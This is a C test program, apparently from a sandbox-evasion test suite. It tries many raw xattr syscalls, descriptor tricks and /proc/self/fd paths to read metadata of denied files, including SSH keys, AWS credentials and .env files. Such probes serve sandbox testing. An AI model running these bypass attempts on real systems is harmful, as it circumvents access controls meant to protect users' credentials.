// technique: a static binary reading xattrs of denied files with raw getxattr, lgetxattr, listxattr, llistxattr, getxattrat and listxattrat (Linux 6.13): absolute, dirfd-relative, AT_EMPTY_PATH on O_PATH and O_RDONLY descriptors, /proc/self/fd paths, size probes
// build: static
// fast: yes
#include "adv.h"
#include <sys/xattr.h>
#include <linux/types.h>
#ifndef SYS_getxattrat
#define SYS_getxattrat 464
#endif
#ifndef SYS_listxattrat
#define SYS_listxattrat 465
#endif
struct xargs { __u64 value; __u32 size; __u32 flags; };

static void show(const char *label, long n, const char *buf) {
	if (n < 0) { printf("%s: %s\n", label, strerror(errno)); return; }
	printf("%s: %ld: ", label, n);
	for (long i = 0; i < n; i++) putchar(buf[i] ? buf[i] : ' ');
	putchar('\n');
}

static void all(const char *label, int dirfd, const char *path) {
	char buf[4096], l[512];
	struct xargs a = { (unsigned long)buf, sizeof buf, 0 };
	long n;
	if (dirfd == AT_FDCWD) {
		n = syscall(SYS_getxattr, path, "user.aixadv", buf, sizeof buf); snprintf(l, sizeof l, "%s getxattr", label); show(l, n, buf);
		n = syscall(SYS_lgetxattr, path, "user.aixadv", buf, sizeof buf); snprintf(l, sizeof l, "%s lgetxattr", label); show(l, n, buf);
		n = syscall(SYS_listxattr, path, buf, sizeof buf); snprintf(l, sizeof l, "%s listxattr", label); show(l, n, buf);
		n = syscall(SYS_llistxattr, path, buf, sizeof buf); snprintf(l, sizeof l, "%s llistxattr", label); show(l, n, buf);
		n = syscall(SYS_getxattr, path, "user.aixadv", NULL, 0); snprintf(l, sizeof l, "%s getxattr size", label); printf("%s: %ld\n", l, n);
	}
	int flags[] = { 0, AT_SYMLINK_NOFOLLOW, AT_EMPTY_PATH };
	for (int i = 0; i < 3; i++) {
		n = syscall(SYS_getxattrat, dirfd, path, flags[i], "user.aixadv", &a, sizeof a);
		snprintf(l, sizeof l, "%s getxattrat flags %#x", label, flags[i]); show(l, n, buf);
		n = syscall(SYS_listxattrat, dirfd, path, flags[i], buf, sizeof buf);
		snprintf(l, sizeof l, "%s listxattrat flags %#x", label, flags[i]); show(l, n, buf);
	}
}

int main(void) {
	char home[1024];
	snprintf(home, sizeof home, "%s", adv("HOME"));
	char p[1024];
	const char *rel[] = { ".ssh/id_rsa", ".ssh", ".aws/credentials", "proj/.env" };
	all("secret", AT_FDCWD, adv("SECRET"));
	all("outside", AT_FDCWD, adv("OUTSIDE"));
	snprintf(p, sizeof p, "%s/.aws/credentials", home); all("aws", AT_FDCWD, p);
	snprintf(p, sizeof p, "%s/.ssh", home); all("sshdir", AT_FDCWD, p);
	all("env", AT_FDCWD, ".env");
	int h = open(home, O_PATH | O_DIRECTORY);
	for (int i = 0; i < 4; i++) all(rel[i], h, rel[i]);
	const char *files[] = { adv("SECRET"), adv("OUTSIDE"), ".env" };
	for (int i = 0; i < 3; i++) {
		int o = open(files[i], O_PATH);
		all("O_PATH fd", o, "");
		snprintf(p, sizeof p, "/proc/self/fd/%d", o); all(p, AT_FDCWD, p);
		snprintf(p, sizeof p, "/proc/thread-self/fd/%d", o); all(p, AT_FDCWD, p);
		int r = open(files[i], O_RDONLY);
		if (r >= 0) { all("O_RDONLY fd", r, ""); close(r); }
	}
	return 0;
}
